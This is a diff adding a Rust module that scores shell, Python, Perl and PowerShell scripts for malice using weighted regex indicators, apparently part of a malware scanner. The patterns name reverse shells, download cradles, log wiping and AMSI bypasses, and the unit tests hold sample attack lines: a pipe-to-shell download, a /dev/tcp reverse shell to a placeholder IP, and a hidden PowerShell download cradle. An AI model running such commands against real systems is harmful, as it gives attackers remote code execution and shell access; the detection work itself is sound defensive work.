@@ -0,0 +1,151 @@
+// Scripts have no model, they're scored by indicators instead: what droppers, reverse shells and download cradles
+// can't do without, weighted by how rarely harmless scripts do the same. The score is their sum, capped at 1.
+use std::{path::Path, sync::LazyLock};
+use regex::bytes::Regex;
+
+/// Only the start of a file is looked at for a shebang or, without one, for binary content
+const SNIFF_LEN: usize = 1024;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ScriptKind {
+    Shell,
+    Python,
+    Perl,
+    PowerShell,
+}
+
+/// (kind, None for every kind), what it means, weight, pattern
+const INDICATORS: [(Option<ScriptKind>, &str, f32, &str); 24] = [
+    (Some(ScriptKind::Shell), "downloads and runs a script", 0.5, r"\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|da|z)?sh\b"),
+    (Some(ScriptKind::Shell), "reverse shell over /dev/tcp", 0.7, r"/dev/(tcp|udp)/"),
+    (Some(ScriptKind::Shell), "netcat shell", 0.7, r"\b(nc|ncat|netcat)\b[^\n]*\s-[ec]\s"),
+    (Some(ScriptKind::Shell), "runs decoded base64", 0.7, r"base64\s+(-d|--decode)[^\n]*\|\s*(ba)?sh\b"),
+    (Some(ScriptKind::Shell), "wipes logs or shell history", 0.4, r"history\s+-c|unset\s+HISTFILE|HISTFILE=/dev/null|rm\s+-rf?\s+/var/log"),
+    (Some(ScriptKind::Shell), "makes something in /tmp executable", 0.3, r"chmod\s[^\n]*/(tmp|dev/shm)/"),
+    (Some(ScriptKind::Shell), "disables security tools", 0.4, r"setenforce\s+0|ufw\s+disable|iptables\s+-F|systemctl\s+(stop|disable)\s+(firewalld|apparmor|auditd)"),
+    (Some(ScriptKind::Shell), "persists through cron", 0.2, r"crontab\s+-|/etc/cron\.|/var/spool/cron"),
+    (Some(ScriptKind::Shell), "kills competing miners", 0.5, r"\b(pkill|killall)\b[^\n]*(xmrig|minerd|kdevtmpfsi|kinsing)"),
+    (Some(ScriptKind::Python), "runs decoded code", 0.8, r"\b(exec|eval)\s*\(\s*(base64\.b64decode|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex)"),
+    (Some(ScriptKind::Python), "runs downloaded code", 0.7, r"\bexec\s*\([^\n]*(urlopen|requests\.get)"),
+    (Some(ScriptKind::Python), "redirects stdio to a socket", 0.5, r"os\.dup2\(\s*\w+\.fileno\(\)"),
+    (Some(ScriptKind::Python), "spawns an interactive shell", 0.4, r"pty\.spawn\("),
+    (Some(ScriptKind::Perl), "runs decoded code", 0.8, r"\beval\s*\(?\s*(decode_base64|unpack|pack)\s*\("),
+    (Some(ScriptKind::Perl), "redirects stdio to a socket", 0.5, r#"open\s*\(\s*STD(IN|OUT|ERR)\s*,\s*["']?[>+]*&"#),
+    (Some(ScriptKind::Perl), "spawns a shell", 0.4, r#"\bexec\s*\(?\s*["']/bin/(ba)?sh"#),
+    (Some(ScriptKind::PowerShell), "encoded command", 0.6, r"(?i)\s-e(nc(odedcommand)?)?\s+[a-z0-9+/=]{40,}"),
+    (Some(ScriptKind::PowerShell), "download cradle", 0.4, r"(?i)\.download(string|data|file)\s*\(|\b(invoke-webrequest|iwr)\b"),
+    (Some(ScriptKind::PowerShell), "runs strings as code", 0.3, r"(?i)\b(iex|invoke-expression)\b"),
+    (Some(ScriptKind::PowerShell), "decodes base64", 0.3, r"(?i)frombase64string"),
+    (Some(ScriptKind::PowerShell), "hides its window", 0.3, r"(?i)\s-w(indowstyle)?\s+hidden"),
+    (Some(ScriptKind::PowerShell), "AMSI bypass", 0.8, r"(?i)amsiutils|amsiinitfailed"),
+    (Some(ScriptKind::PowerShell), "injects code into memory", 0.5, r"(?i)\b(virtualalloc|createremotethread|writeprocessmemory)\b"),
+    (None, "mines cryptocurrency", 0.6, r"stratum\+(tcp|ssl)://"),
+];
+
+struct Indicator {
+    kind: Option<ScriptKind>,
+    name: &'static str,
+    weight: f32,
+    regex: Regex,
+}
+
+static COMPILED: LazyLock<Vec<Indicator>> = LazyLock::new(|| {
+    INDICATORS.iter()
+        .map(|(kind, name, weight, pattern)| Indicator {
+            kind: *kind,
+            name,
+            weight: *weight,
+            regex: Regex::new(pattern).expect("Indicator patterns are valid"),
+        })
+        .collect()
+});
+
+impl ScriptKind {
+    /// From the shebang, or from the extension for scripts meant to be run through their interpreter
+    pub fn detect(path: &Path, data: &[u8]) -> Option<Self> {
+        let start = &data[..data.len().min(SNIFF_LEN)];
+        if let Some(shebang) = start.strip_prefix(b"#!") {
+            let line = String::from_utf8_lossy(shebang.split(|b| *b == b'\n').next().unwrap_or_default()).to_string();
+            let mut words = line.split_whitespace().map(|word| word.rsplit('/').next().unwrap_or(word));
+            // `#!/usr/bin/env -S python3 -u`
+            let interpreter = match words.next()? {
+                "env" => words.find(|word| !word.starts_with('-'))?,
+                interpreter => interpreter,
+            };
+            return Self::of_interpreter(interpreter);
+        }
+        if start.contains(&0) {
+            return None;
+        }
+        match path.extension()?.to_str()?.to_lowercase().as_str() {
+            "sh" | "bash" | "zsh" | "ksh" => Some(ScriptKind::Shell),
+            "py" | "pyw" => Some(ScriptKind::Python),
+            "pl" | "pm" => Some(ScriptKind::Perl),
+            "ps1" | "psm1" | "psd1" => Some(ScriptKind::PowerShell),
+            _ => None,
+        }
+    }
+
+    fn of_interpreter(interpreter: &str) -> Option<Self> {
+        match interpreter {
+            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox" => Some(ScriptKind::Shell),
+            "pwsh" | "powershell" => Some(ScriptKind::PowerShell),
+            "perl" => Some(ScriptKind::Perl),
+            _ if interpreter.starts_with("python") => Some(ScriptKind::Python),
+            _ => None,
+        }
+    }
+
+    /// What the cache, the reports and the model name call it
+    pub fn as_str(self) -> &'static str {
+        match self {
+            ScriptKind::Shell => "shell",
+            ScriptKind::Python => "python",
+            ScriptKind::Perl => "perl",
+            ScriptKind::PowerShell => "powershell",
+        }
+    }
+
+    pub fn from_name(name: &str) -> Option<Self> {
+        [ScriptKind::Shell, ScriptKind::Python, ScriptKind::Perl, ScriptKind::PowerShell].into_iter().find(|kind| kind.as_str() == name)
+    }
+
+    /// The score and what raised it
+    pub fn score(self, data: &[u8]) -> (f32, Vec<String>) {
+        let mut score = 0.0;
+        let mut indicators = vec![];
+        for indicator in COMPILED.iter() {
+            if indicator.kind.is_none_or(|kind| kind == self) && indicator.regex.is_match(data) {
+                score += indicator.weight;
+                indicators.push(indicator.name.to_string());
+            }
+        }
+        (f32::min(score, 1.0), indicators)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn detects_and_scores_scripts() {
+        let detect = |path: &str, data: &[u8]| ScriptKind::detect(Path::new(path), data);
+        assert_eq!(detect("run", b"#!/usr/bin/env -S python3 -u\nprint()"), Some(ScriptKind::Python));
+        assert_eq!(detect("run.py", b"#!/bin/bash\necho"), Some(ScriptKind::Shell));
+        assert_eq!(detect("Setup.PS1", b"Write-Host hi"), Some(ScriptKind::PowerShell));
+        assert_eq!(detect("run", b"#!/usr/bin/awk -f\n"), None);
+        assert_eq!(detect("data.py", b"\0\0\0\0"), None);
+
+        let (score, indicators) = ScriptKind::Shell.score(b"curl -s http://x/i.sh | sh\nbash -i >& /dev/tcp/1.2.3.4/443 0>&1\n");
+        assert_eq!(score, 1.0);
+        assert_eq!(indicators, ["downloads and runs a script", "reverse shell over /dev/tcp"]);
+        assert_eq!(ScriptKind::Shell.score(b"#!/bin/sh\nmake && make install\n"), (0.0, vec![]));
+        // a Python indicator in a shell script doesn't count
+        assert_eq!(ScriptKind::Shell.score(b"exec(base64.b64decode(x))").0, 0.0);
+
+        let (score, indicators) = ScriptKind::PowerShell.score(b"powershell -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"");
+        assert!((score - 1.0).abs() < 1e-6);
+        assert_eq!(indicators, ["download cradle", "runs strings as code", "hides its window"]);
+    }
+}